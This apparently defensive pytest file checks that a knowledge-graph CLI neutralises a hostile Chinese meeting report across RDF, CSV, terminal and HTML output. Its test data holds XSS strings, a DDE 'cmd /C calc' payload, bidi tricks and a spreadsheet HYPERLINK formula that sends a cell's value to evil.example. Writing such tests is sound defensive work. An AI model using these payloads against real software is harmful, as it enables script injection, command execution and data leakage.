"""A hostile report through the whole pipeline: markup, script URLs, formulas, bidi and zero-width tricks
come out as inert text in Turtle, TriG, JSON-LD, CSV and the page."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner

from kg import read
from kg.cli import cli

IMG = '"><img src=x onerror=alert(1)>'
SCRIPT = "<script>alert(2)</script>"
LINK = '<a href="javascript:alert(3)">点我</a>'
HOSTILE = (
    "12月27日,全国工业和信息化工作会议在北京召开。"
    f"工业和信息化部党组书记、部长李明出席会议,并作了题为“{IMG}{SCRIPT}”的讲话。"
    "会议由部党组成员、副部长王\u200b\u202e强\u202c主持。\n"
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")会议指出,今年规模以上工业增加值增长6%左右。\n'
    "@SUM(1+1)工业和信息化部副部长张\u2066伟\u2069出席。\n"
    "+cmd|' /C calc'!A0 全年新增5G基站超过10万个。\n"
    f"-2+3 会议强调,要实施{LINK}工程和制造业javascript:alert(4)行动。\x1b[2J\n"
)
CLEAN = (
    "12月27日,全国工业和信息化工作会议在北京召开。工业和信息化部党组书记、部长李明出席会议,并作了题为“题目”的讲话。"
    "会议由部党组成员、副部长王强主持。\n会议指出,今年规模以上工业增加值增长6%左右。\n工业和信息化部副部长张伟出席。\n"
    "全年新增5G基站超过10万个。\n会议强调,要实施点我工程和制造业行动。\n"
)
CONTRACT = ("officials", "organizations", "meetings", "targets", "plans", "programmes", "concepts")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def build(tmp_path: Path, name: str, text: str) -> Path:
    source = tmp_path / name / "report.txt"
    source.parent.mkdir()
    source.write_text(text, encoding="utf-8")
    out = tmp_path / name / "out"
    result = CliRunner().invoke(cli, ["build", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    return build(tmp_path_factory.mktemp("hostile"), "hostile", HOSTILE)


@pytest.fixture(scope="module")
def clean(tmp_path_factory) -> Path:
    return build(tmp_path_factory.mktemp("clean"), "clean", CLEAN)


def literals(graph) -> set[str]:
    import rdflib

    return {str(o) for o in graph.objects() if isinstance(o, rdflib.Literal)}


def query(graph: Path, name: str, fmt: str) -> str:
    result = CliRunner().invoke(cli, ["query", name, "--graph", str(graph), "--format", fmt])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_the_text_is_normalised_before_anything_sees_it() -> None:
    text = read.read_text(HOSTILE).text
    assert "王强" in text and "张伟" in text
    assert not any(unicodedata.category(ch) in ("Cf", "Cc") for ch in text.replace("\n", ""))
    assert f"“{IMG}{SCRIPT}”" in text and LINK in text  # markup in a report is text, kept as written


def test_turtle_parses_back_with_the_literals_intact(hostile: Path) -> None:
    import rdflib

    graph = rdflib.Graph().parse(hostile / "kg.ttl", format="turtle")
    values = literals(graph)
    sentences = {s.text for s in read.read_text(HOSTILE).sentences}
    assert f"工业和信息化部党组书记、部长李明出席会议,并作了题为“{IMG}{SCRIPT}”的讲话。" in sentences & values
    assert f"{IMG}{SCRIPT}" in values  # the speech title, exactly
    assert (
        '=HYPERLINK("http://evil.example/?x="&A1,"点击")会议指出,今年规模以上工业增加值增长6%左右。' in values
    )
    assert {"李明", "王强", "张伟"} <= values
    assert not [
        v for v in values if any(unicodedata.category(ch) in ("Cf", "Cc") for ch in v.replace("\n", ""))
    ]


def test_trig_and_json_ld_carry_the_same_literals(hostile: Path) -> None:
    import rdflib

    turtle = rdflib.Graph().parse(hostile / "kg.ttl", format="turtle")
    trig = rdflib.Dataset()
    trig.parse(hostile / "kg.trig", format="trig")
    trig_values = {str(o) for _, _, o, _ in trig.quads() if isinstance(o, rdflib.Literal)}
    assert literals(turtle) <= trig_values
    jsonld = hostile / "kg.jsonld"
    jsonld.write_text(turtle.serialize(format="json-ld"), encoding="utf-8")
    assert literals(rdflib.Graph().parse(jsonld, format="json-ld")) == literals(turtle)
    for name in CONTRACT:  # kg query reads the JSON-LD copy to the same answers
        assert query(jsonld, name, "json") == query(hostile / "kg.ttl", name, "json")


def unguarded(cell: str) -> str:
    """A CSV cell without the quote that neutralises a formula, if it carries one."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell


def test_csv_parses_back_to_the_query_answers(hostile: Path) -> None:
    for name in CONTRACT:
        answers = json.loads(query(hostile / "kg.ttl", name, "json"))
        variables = answers["head"]["vars"]
        expected = [
            [row.get(v, {}).get("value", "") for v in variables] for row in answers["results"]["bindings"]
        ]
        rows = list(csv.reader(io.StringIO(query(hostile / "kg.ttl", name, "csv"))))
        assert rows[0] == variables
        assert sorted([unguarded(cell) for cell in row] for row in rows[1:]) == sorted(expected), name


def test_csv_cells_cannot_start_a_formula(hostile: Path) -> None:
    cells = [
        cell
        for name in CONTRACT
        for row in csv.reader(io.StringIO(query(hostile / "kg.ttl", name, "csv")))
        for cell in row
    ]
    assert any(cell.lstrip("'").startswith("=HYPERLINK") for cell in cells)  # the formula text is there …
    number = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")  # a plain number is not a formula
    assert [
        c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)
    ] == []  # … never as one


def test_terminal_output_has_no_escape_sequences(hostile: Path) -> None:
    for name in CONTRACT:
        assert "\x1b" not in query(hostile / "kg.ttl", name, "table")


def test_the_page_never_contains_the_payload_as_markup(hostile: Path, clean: Path) -> None:
    page = (hostile / "kg.html").read_text(encoding="utf-8")
    baseline = (clean / "kg.html").read_text(encoding="utf-8")
    for raw in (IMG, SCRIPT, LINK, "<img src=x", "<script>alert", 'href="javascript:'):
        assert raw not in page, raw
    assert "onerror=alert(1)" in page  # the title is on the page, as escaped text
    assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", page, re.IGNORECASE)
    for tag in ("<script", "<img", "<a ", "<iframe", "<object", "<embed"):
        assert page.lower().count(tag) == baseline.lower().count(tag), tag
